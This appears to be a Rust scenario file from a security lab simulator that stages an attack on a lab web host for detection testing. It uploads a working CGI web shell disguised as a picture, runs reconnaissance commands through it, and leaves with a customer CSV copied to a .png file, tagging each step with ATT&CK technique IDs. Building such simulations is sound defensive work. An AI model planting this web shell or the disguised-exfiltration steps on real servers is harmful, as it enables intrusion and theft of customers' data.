//! The same hole as in `web-shell`, by somebody who imitates the site: the script has the name of an upload, calls come at the pace of
//! visitors, and the loot leaves as an answer to an ordinary request.
//!
//! Hard because: no connection goes out, the names are those of the site, and each command is one of a script of the site.

use crate::Lab;
use crate::life::{host_tasks, web};
use crate::network::{get, post};
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("web-4")?;
    let (internet, attacker) = (lab.outsider("visitors")?, lab.outsider("attacker")?);
    web::serve(&host)?;
    host_tasks::start(lab, &host)?;
    web::visit(lab, &internet, &host)?;
    lab.wait(15..22);

    let attack = lab.attack("web shell that imitates the site")?;
    let call = |path: &str| get(&attacker, host.address, 80, path);
    // As a visitor would.
    for path in ["/page-1.html", "/cgi-bin/counter.cgi", "/cgi-bin/lookup.cgi?host=localhost"] {
        call(path)?;
        lab.wait(1..3);
    }
    let n = lab.number(30..60);
    let file = format!("/var/www/html/uploads/picture-{n}.cgi");
    let step = attack.step("a script is uploaded as a picture", &["T1190", "T1505.003", "T1036.005"]);
    step.remote(&host, &attacker);
    step.brought(&host, &file);
    let script = "#!/bin/sh\necho \"Content-type: text/plain\"\necho\neval \"$(busybox httpd -d \"$QUERY_STRING\")\"\n";
    post(&attacker, host.address, 80, &format!("/cgi-bin/upload.cgi?picture-{n}.cgi"), script.as_bytes())?;
    drop(step);
    lab.wait(6..10);

    let step = attack.step("it looks around, a command a call", &["T1059.004", "T1083"]);
    step.remote(&host, &attacker);
    for look in ["cat /var/lib/counter/count", "echo /var/www/*", "echo /var/www/customers/*"] {
        let said = call(&format!("/uploads/picture-{n}.cgi?{} {look}", step.mark(&host)?))?;
        ensure!(!said.trim().is_empty(), "the web shell does not work");
        lab.wait(2..6);
    }
    drop(step);

    let step = attack.step("customers leave as a picture", &["T1005", "T1036.008", "T1041"]);
    step.remote(&host, &attacker);
    let picture = format!("/var/www/html/uploads/picture-{}.png", n + 1);
    step.file(&host, &picture);
    call(&format!("/uploads/picture-{n}.cgi?{} cat /var/www/customers/list.csv > {picture}", step.mark(&host)?))?;
    lab.wait(3..6);
    let said = call(&format!("/uploads/picture-{}.png", n + 1))?;
    ensure!(said.contains("Somebody"), "the picture is not there");
    drop(step);
    lab.wait(8..14);
    Ok(())
}
